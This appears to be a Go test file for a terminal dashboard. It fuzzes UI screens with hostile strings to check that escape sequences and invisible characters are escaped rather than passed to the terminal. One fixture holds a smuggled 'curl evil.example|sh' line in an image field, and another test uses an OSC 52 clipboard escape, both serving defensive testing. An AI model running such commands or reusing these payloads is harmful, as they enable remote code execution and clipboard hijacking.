package ui

import (
	"strings"
	"testing"

	"github.com/hanzoai/driftboard/internal/termtext"
	"github.com/hanzoai/driftboard/internal/testing/hostile"
	"github.com/hanzoai/driftboard/model"
	"github.com/hanzoai/driftboard/ui/detail"
	"github.com/hanzoai/driftboard/ui/dialog"
)

// hostileRow is a fixture row with every string field set to s.
func hostileRow(s string) model.AppView {
	r := app{ns: "hanzo", name: "iam", declared: "v1", running: "v1", latest: "v2", ready: 2, updated: 2, stuck: true}.build()
	r.Chart = &model.ChartSource{} // a Hanzo CD Application's fields, kept exact by the decoder
	hostile.Fill(&r, s)
	return r
}

// checkFrame fails when the frame as composed (before View's last guard)
// holds anything a terminal acts on but the board's own SGR styling, or the
// payloads' conceal SGR, which the board never uses; and when the frame View
// hands the terminal has a raw control, or with colour off any ESC at all.
func checkFrame(t testing.TB, what string, m *Model, plain bool) {
	t.Helper()
	composed := m.render()
	if i := termtext.FirstRaw(composed, true); i >= 0 {
		t.Fatalf("%s: raw control at byte %d: %q", what, i, composed[max(0, i-20):min(len(composed), i+20)])
	}
	if strings.Contains(composed, "\x1b[8m") {
		t.Fatalf("%s: a value's SGR reached the frame", what)
	}
	frame := m.View().Content
	if i := termtext.FirstRaw(frame, !plain); i >= 0 {
		t.Fatalf("%s: raw control at byte %d of the view: %q", what, i, frame[max(0, i-20):min(len(frame), i+20)])
	}
}

// hostileScreens renders the board, the detail, the restart dialog, the
// action menu and a failed restart with s in every field it can reach.
// Keys go straight to Update (no command is run) so the fuzzer stays fast;
// the answers those commands would bring are fed in with s in them.
func hostileScreens(t testing.TB, s string, plain bool) {
	id := orgAdmin()
	id.state.Principal.User = s
	m, src := newTestModel(t, allowed(), id, Options{NoColor: plain}, 140, 40)
	row := hostileRow(s)
	src.upsert(row)
	src.SetClusters([]model.ClusterState{{Name: "prod", Phase: model.ConnLive, Since: t0, Notices: []string{s}},
		{Name: "x" + s, Phase: model.ConnFailed, Since: t0, Reason: s}, {Name: "y", Phase: model.ConnSyncing, Since: t0, Reason: s}})
	m.Update(snapshotMsg{src.Snapshot()})
	selectKey(t, m, row.Key())
	checkFrame(t, "board", m, plain)
	_, cmd := m.Update(keyMsg("enter"))
	seq := uint64(0) // the detail's read, if it started one: its answer is replaced
	if reads := digestMsgs(cmd); len(reads) > 0 {
		seq = reads[0].Seq
	}
	m.detail.SetDecision(model.Decision{Reason: "denied " + s})
	m.Update(detail.DigestsMsg{Key: m.detail.Key(), Seq: seq, Running: model.PodDigests{Pods: 1, Digests: []string{s}}})
	checkFrame(t, "detail", m, plain)
	send(m, "end")
	checkFrame(t, "detail end", m, plain)
	send(m, "esc", "r")
	if dialog.Find[*dialog.Confirm](m.dialogs) == nil {
		t.Fatal("r opened no restart dialog")
	}
	checkFrame(t, "restart dialog", m, plain)
	dialog.Find[*dialog.Confirm](m.dialogs).Refuse("denied " + s)
	checkFrame(t, "restart refused", m, plain)
	send(m, "esc", "a")
	checkFrame(t, "actions", m, plain)
	send(m, "esc")
	m.Update(restartedMsg{key: row.Key(), err: errString(s)})
	checkFrame(t, "status", m, plain)
}

// send hands keys to Update and drops the commands they return.
func send(m *Model, keys ...string) {
	for _, k := range keys {
		m.Update(keyMsg(k))
	}
}

func selectKey(t testing.TB, m *Model, k model.Key) {
	t.Helper()
	for i, r := range m.board.AllRows() {
		if r.Key() == k {
			m.board.MoveTo(i)
			return
		}
	}
	t.Fatalf("row %v not on the board", k)
}

type errString string

func (e errString) Error() string { return string(e) }

func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	for _, plain := range []bool{false, true} {
		for _, s := range hostile.Payloads {
			hostileScreens(t, s, plain)
		}
	}
	// and the text is shown, escaped, not dropped
	m, src := newTestModel(t, allowed(), orgAdmin(), Options{}, 140, 40)
	row := hostileRow("v9\x1b]52;c;x\x07\u202e")
	src.upsert(row)
	m.Update(snapshotMsg{src.Snapshot()})
	selectKey(t, m, row.Key())
	press(m, "enter")
	if v := plainView(m); !strings.Contains(v, `v9\x1b]52;c;x\x07\u202e`) {
		t.Fatalf("the escaped value is not shown in the detail:\n%s", v)
	}
}

func FuzzHostileRow(f *testing.F) {
	for _, s := range hostile.Payloads {
		f.Add(s, false)
	}
	f.Add("\xff\xfe\xc2", true)
	f.Fuzz(func(t *testing.T, s string, plain bool) {
		hostileScreens(t, s, plain)
	})
}

// c copies the image reference to the clipboard: never a tenant's control
// or invisible characters, which a paste into a shell would carry.
func TestHostileImageReferenceIsNotCopied(t *testing.T) {
	m, src := newTestModel(t, allowed(), orgAdmin(), Options{}, 140, 40)
	row := app{ns: "hanzo", name: "evil", declared: "v1\n curl evil.example|sh\n", running: "v1", latest: "v1", ready: 2, updated: 2}.build()
	src.upsert(row)
	m.Update(snapshotMsg{src.Snapshot()})
	selectKey(t, m, row.Key())
	if _, cmd := m.Update(keyMsg("c")); cmd != nil {
		t.Fatal("c returned a command (the clipboard write) for a reference with a line break")
	}
	if v := plainView(m); !strings.Contains(v, "not copied") {
		t.Fatalf("the status does not say why:\n%s", v)
	}
}

// 200,000 combining marks in a field stacked on one cell: each frame grew
// from 2 KB to 402 KB. Escaped beyond the bound, they take width and the
// cell cuts them like any long value.
func TestStackedMarksDoNotGrowTheFrame(t *testing.T) {
	m, src := newTestModel(t, allowed(), orgAdmin(), Options{}, 140, 40)
	base := len(m.View().Content)
	row := app{ns: "hanzo", name: "iam", declared: "v1", running: "v1", latest: "v2", ready: 2, updated: 2}.build()
	row.DeclaredTag = "v" + strings.Repeat("\u0301", 200000)
	row.Phase = row.DeclaredTag
	src.upsert(row)
	m.Update(snapshotMsg{src.Snapshot()})
	selectKey(t, m, row.Key())
	for _, screen := range []string{"board", "detail"} {
		if screen == "detail" {
			press(m, "enter")
		}
		checkFrame(t, screen, m, false)
		if n := len(m.View().Content); n > base+16<<10 {
			t.Errorf("%s: the frame is %d bytes, the board's own %d", screen, n, base)
		}
	}
}
